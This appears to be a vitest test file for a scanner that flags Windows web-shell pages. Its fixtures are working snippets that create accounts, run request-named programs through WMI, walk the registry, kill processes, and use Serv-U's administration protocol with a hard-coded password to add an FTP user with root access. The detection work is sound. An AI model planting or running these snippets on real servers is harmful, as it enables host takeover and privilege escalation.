/**
 * Server pages working the Windows host for the visitor (issue 27, variants written for the
 * held-out classes of tools): accounts created through ADSI, programs started through WMI,
 * and the registry keys, services, processes and access rules the visitor names.
 */
import { describe, expect, it } from 'vitest';
import { isAlarm, topFinding } from '../support/top-finding.js';

const AT = '/inetpub/wwwroot/';
const page = (body: string) => `<%@ Page Language="C#" %><script runat="server">
void Page_Load(object s, EventArgs e) {
${body}
}
</script>`;

describe('pages working the Windows host', () => {
  it.each([
    [
      'an account created through ADSI',
      'x.aspx',
      page(`var d = new System.DirectoryServices.DirectoryEntry("WinNT://" + Environment.MachineName);
var u = d.Children.Add(Request["u"], "user"); u.Invoke("SetPassword", Request["p"]); u.CommitChanges();`),
      /creates a Windows account/,
    ],
    [
      'an account a classic ASP page creates with a fixed name',
      'y.asp',
      `<%Set c = GetObject("WinNT://.")
Set n = c.Create("user", "support")
n.SetPassword "P@ssw0rd1"
n.SetInfo%>`,
      /creates a Windows account/,
    ],
    [
      'a program started through WMI',
      'w.aspx',
      page(
        `new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["c"] });`,
      ),
      /a command on request input/,
    ],
    [
      "a classic ASP page starting the visitor's program through WMI",
      'w.asp',
      `<%Set p = GetObject("winmgmts:\\\\.\\root\\cimv2").Get("Win32_Process")
r = p.Create(Request("c"), Null, Null, pid)%>`,
      /running a program the request names/,
    ],
    [
      'a registry key the visitor names',
      'r.aspx',
      page(`var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(Request["k"]);
foreach (var n in k.GetValueNames()) Response.Write(n + "=" + k.GetValue(n));`),
      /registry key the visitor names/,
    ],
    [
      "the registry browsed: the hive picked by the visitor's path, the key opened below it",
      'reg.aspx',
      page(`string path = Request["p"], sub = path.Substring(path.IndexOf("\\\\") + 1);
RegistryKey rk = null;
if (path.StartsWith("HKEY_LOCAL_MACHINE")) rk = Registry.LocalMachine;
else if (path.StartsWith("HKEY_CURRENT_USER")) rk = Registry.CurrentUser;
else if (path.StartsWith("HKEY_USERS")) rk = Registry.Users;
foreach (string n in rk.OpenSubKey(sub).GetSubKeyNames()) Response.Write(n);`),
      /browses the registry/,
    ],
    [
      "the registry's hives walked, every key's values listed, with no request read",
      'dir.aspx',
      page(`Stack sack = new Stack();
sack.Push(Registry.ClassesRoot); sack.Push(Registry.CurrentUser); sack.Push(Registry.LocalMachine); sack.Push(Registry.Users);
while (sack.Count > 0) { RegistryKey k = (RegistryKey)sack.Pop();
  foreach (string n in k.GetValueNames()) Response.Write(k.GetValue(n) + "<br/>");
  foreach (string s in k.GetSubKeyNames()) sack.Push(k.OpenSubKey(s)); }`),
      /walks the registry's hives/,
    ],
    [
      'a service the visitor names',
      's.aspx',
      page(`var sc = new System.ServiceProcess.ServiceController(Request["svc"]); sc.Stop();`),
      /service the visitor names/,
    ],
    [
      'a process the visitor names, killed',
      'k.aspx',
      page(`System.Diagnostics.Process.GetProcessById(int.Parse(Request["pid"])).Kill();`),
      /kills any process/,
    ],
    [
      "a path's access rules the visitor names",
      'a.aspx',
      page(
        `var acl = System.IO.Directory.GetAccessControl(Request["p"]); Response.Write(acl.GetSecurityDescriptorSddlForm(System.Security.AccessControl.AccessControlSections.All));`,
      ),
      /access rules of any path/,
    ],
    [
      'a folder the visitor names, listed through a qualified DirectoryInfo',
      'd.aspx',
      page(
        `foreach (var f in new System.IO.DirectoryInfo(Request.Form["dir"]).GetFiles()) Response.Write(f.Name);`,
      ),
      /lists any folder the visitor names/,
    ],
  ])('ranks %s critical', (_, name, text, reason) => {
    expect(topFinding(`${AT}${name}`, text)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(reason),
    });
  });

  it("leaves a page listing the host's users, reading its own key or its own service alone", () => {
    const users = `<%Set c = GetObject("WinNT://.")
c.Filter = Array("user")
For Each u In c: Response.Write u.Name & "<br>": Next%>`;
    expect(isAlarm(`${AT}users.asp`, users)).toBe(false);
    const own = page(`string lang = Request["lang"];
var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey("SOFTWARE\\\\Contoso\\\\App");
var sc = new System.ServiceProcess.ServiceController("ContosoSync");
Response.Write(k.GetValue("Version") + " " + sc.Status + " " + lang);`);
    expect(isAlarm(`${AT}status.aspx`, own)).toBe(false);
    // Its own settings under two hives (machine-wide, then the user's): no browser.
    const settings = page(`string theme = Request["theme"];
var k = Registry.CurrentUser.OpenSubKey("Software\\\\Contoso") ?? Registry.LocalMachine.OpenSubKey("Software\\\\Contoso");
Response.Write(k.GetValue(theme));`);
    expect(isAlarm(`${AT}settings.aspx`, settings)).toBe(false);
    // Its own key's values listed, under the two hives it may be kept in: no walk.
    const listed =
      page(`var k = Registry.CurrentUser.OpenSubKey("Software\\\\Contoso") ?? Registry.LocalMachine.OpenSubKey("Software\\\\Contoso");
foreach (string n in k.GetValueNames()) Response.Write(n);`);
    expect(isAlarm(`${AT}values.aspx`, listed)).toBe(false);
  });

  it.each([
    [
      'classic ASP',
      'su.asp',
      `<%
user = request("u") : pass = request("p")
newuser = "-SETUSERSETUP" & vbCrLf & "-IP=0.0.0.0" & vbCrLf & "-PortNo=60000" & vbCrLf & "-User=go" & vbCrLf & "-Password=od" & vbCrLf & "-HomeDir=c:\\" & vbCrLf
set a = Server.CreateObject("Microsoft.XMLHTTP")
a.open "GET", "http://127.0.0.1:43958/x", True
a.send "User " & user & vbCrLf & "Pass " & pass & vbCrLf & "SITE MAINTENANCE" & vbCrLf & newuser
%>`,
    ],
    [
      'PHP',
      'su.php',
      `<?php $s = fsockopen('127.0.0.1', 43958);
fwrite($s, "USER LocalAdministrator\r\nPASS #l@$ak#.lk;0@P\r\nSITE MAINTENANCE\r\n-SETDOMAIN\r\n-Domain=x|0.0.0.0|21|-1|1|0\r\n");`,
    ],
  ])("ranks a page in %s speaking Serv-U's administration protocol critical", (_, name, text) => {
    expect(topFinding(`${AT}${name}`, text)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/Serv-U's administration commands/),
    });
  });

  it("leaves an FTP client library's SITE command alone", () => {
    const client = `<?php
class Ftp {
  function site($command) { return $this->send("SITE $command"); }
  function exec($command) { return $this->site("EXEC $command"); }
}`;
    expect(isAlarm('/var/www/html/lib/Ftp.php', client)).toBe(false);
  });
});
